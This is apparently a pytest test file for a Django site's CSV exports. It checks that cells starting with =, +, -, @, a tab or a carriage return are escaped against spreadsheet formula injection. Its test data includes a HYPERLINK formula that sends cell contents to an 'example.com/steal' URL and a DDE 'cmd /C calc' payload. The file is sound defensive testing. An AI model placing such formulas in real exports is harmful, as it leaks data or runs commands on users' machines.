"""No CSV the site writes makes a spreadsheet run a record's text as a formula.

A cell beginning ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a
single quote before it (OWASP's advice on CSV injection); plain numbers, negative ones
included, are written as they are.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from cases.browse import csv_safety
from cases.models import CaseStudy, Quote
from tests.drawings.test_figures import add_figure
from tests.public_urls import LIST_MODELS, busiest

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.com/steal?x="&A1,"Open the source")'

# Each list's export, and a text column of it that a record's author writes.
EXPORTED_TEXT = {
    "/cases/": "title",
    "/people/": "description",
    "/organisations/": "name",
    "/events/": "title",
    "/interviews/": "title",
    "/quotes/": "text",
    "/sources/": "title",
    "/places/": "name",
    "/glossary/": "term",
}


def export_rows(client, list_path) -> list[dict]:
    response = client.get(f"{list_path}export.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize("list_path", EXPORTED_TEXT)
def test_a_record_whose_text_is_a_formula_is_exported_as_text(client, list_path):
    model, column = LIST_MODELS[list_path], EXPORTED_TEXT[list_path]
    record = busiest(model)
    # ``update``: the text as an archivist could type it, without anything save() derives.
    model.objects.filter(pk=record.pk).update(**{column: FORMULA})
    row = next(row for row in export_rows(client, list_path) if row["key"] == record.key)
    assert row[column] == "'" + FORMULA


@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_an_export(client, start):
    quote = busiest(Quote)
    Quote.objects.filter(pk=quote.pk).update(context=f"{start}cmd|' /C calc'!A0")
    row = next(row for row in export_rows(client, "/quotes/") if row["key"] == quote.key)
    assert row["context"] == f"'{start}cmd|' /C calc'!A0"


def test_ordinary_cells_are_unchanged(client):
    rows = export_rows(client, "/quotes/")
    quote = busiest(Quote)
    row = next(row for row in rows if row["key"] == quote.key)
    assert row["text"] == quote.text
    assert not any(value.startswith("'") for row in rows for value in row.values())


def chart_rows(client, case_key, slug) -> list[dict]:
    response = client.get(reverse("cases:casestudy_figure_csv", args=[case_key, slug]))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_a_chart_csv_quotes_a_formula_but_keeps_a_negative_number(client):
    case = CaseStudy.objects.get(key="el-agustino")
    add_figure(
        case,
        measure="FODECO as a share of the municipal budget",
        value=Decimal("-3.5"),
        value_text=FORMULA,
        unit="@percent",
        date="1990",
    )
    rows = chart_rows(client, case.key, "fodeco-budget-share")
    row = next(row for row in rows if row["unit"] == "'@percent")
    assert row["value_as_printed"] == "'" + FORMULA
    assert row["value"] == "-3.5", "a negative number stays a number"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-52", "-52"),
        ("-3.5", "-3.5"),
        ("+4", "+4"),
        ("-1e3", "-1e3"),
        ("1989-05", "1989-05"),
        ("a = b", "a = b"),
        ("", ""),
        (-52, -52),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert csv_safety.safe_cell(value) == written
